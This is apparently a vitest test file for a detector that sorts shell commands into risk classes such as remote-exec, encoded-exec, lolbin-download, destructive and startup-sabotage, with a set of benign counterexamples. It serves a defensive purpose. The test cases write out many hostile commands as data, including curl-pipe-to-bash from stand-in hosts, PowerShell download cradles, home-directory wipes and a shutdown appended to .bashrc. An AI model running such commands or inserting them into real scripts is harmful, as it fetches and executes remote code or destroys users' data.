import { describe, expect, it } from 'vitest';
import { classifyShell, defang } from './shell.js';

const kinds = (cmd: string) => classifyShell(cmd).map((h) => h.kind);

describe('classifyShell', () => {
  it.each([
    ['curl -fsSL https://x.example.invalid/i.sh | bash', 'remote-exec'],
    ['wget -qO- http://198.51.100.1/x | sudo -E sh -', 'remote-exec'],
    ['bash -c "$(curl -fsSL https://x.example.invalid/i)"', 'remote-exec'],
    ['sh <(curl -s https://x.example.invalid/i)', 'remote-exec'],
    ['powershell -c "irm bun.sh/install.ps1|iex"', 'remote-exec'],
    ['IEX (New-Object Net.WebClient).DownloadString("https://x.example.invalid/a")', 'remote-exec'],
    ['powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'encoded-exec'],
    ['pwsh -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'encoded-exec'],
    ['echo ZWNobyBoaQo= | base64 -d | sh', 'encoded-exec'],
    ['certutil.exe -urlcache -split -f http://198.51.100.2/a a.exe', 'lolbin-download'],
    ['bitsadmin /transfer job http://198.51.100.2/a C:\\a.exe', 'lolbin-download'],
    ['rundll32 C:\\x\\node-gyp.dll,main', 'lolbin-exec'],
    ['regsvr32.exe -s compile.dll', 'lolbin-exec'],
    ['mshta https://x.example.invalid/a.hta', 'lolbin-exec'],
    ['cscript //nologo run.vbs', 'lolbin-exec'],
    ['curl -fsSL https://bun.sh/install -o i.sh', 'bun'],
    ['bun run tanstack_runner.js', 'bun'],
    ['start /B node compile.js', 'background'],
    ['nohup node agent.js', 'background'],
    ['node agent.js >/dev/null 2>&1 &', 'background'],
    ['bun run x.js && exit 1', 'masked-failure'],
    ['rm -rf ~', 'destructive'],
    ['rm -r -f $HOME/*', 'destructive'],
    ['rm -rf --no-preserve-root /', 'destructive'],
    ['rm -rf ../..', 'destructive'],
    ['rd /s /q %USERPROFILE%', 'destructive'],
    ['Remove-Item -Recurse -Force $env:USERPROFILE', 'destructive'],
    ['find "$HOME" -type f -writable -print0 | xargs -0 shred -uz', 'destructive'],
    ['cipher /W:C:\\', 'destructive'],
    ["echo 'sudo shutdown -h 0' >> ~/.bashrc", 'startup-sabotage'],
    ['curl -sL https://x.example.invalid/a.tgz | tar xz', 'download'],
  ])('%s -> %s', (cmd, kind) => {
    expect(kinds(cmd)).toContain(kind);
  });

  it('curl -o f && chmod +x f && ./f is a downloaded executable', () => {
    expect(kinds('curl -sL https://x.example.invalid/a -o agent && chmod +x agent && ./agent')).toContain('run-downloaded');
    expect(kinds('wget -q http://198.51.100.3/a -O /tmp/a\n/tmp/a -d')).toContain('run-downloaded');
  });

  it.each([
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'husky install',
    'rm -rf ./build node_modules/.cache',
    'rm -rf ~/.cache/mytool',
    'rm ~/.mytoolrc',
    'tsc && node scripts/copy.js',
    'echo "curl is required"',
    'bun run build',
    'node x.js 2>&1',
    "node -e \"process.exit(0)\" || (echo 'use pnpm' && exit 1)",
    'curl --version',
  ])('benign: %s', (cmd) => {
    expect(kinds(cmd).filter((k) => k !== 'download')).toEqual([]);
  });

  it('a stronger match swallows the plain download at the same place', () => {
    expect(kinds('curl -fsSL https://x.example.invalid/i.sh | bash')).toEqual(['remote-exec']);
  });

  it('defangs URLs for messages', () => {
    expect(defang('https://api.example.invalid/x.sh')).toBe('hxxps://api[.]example[.]invalid/x.sh');
  });
});
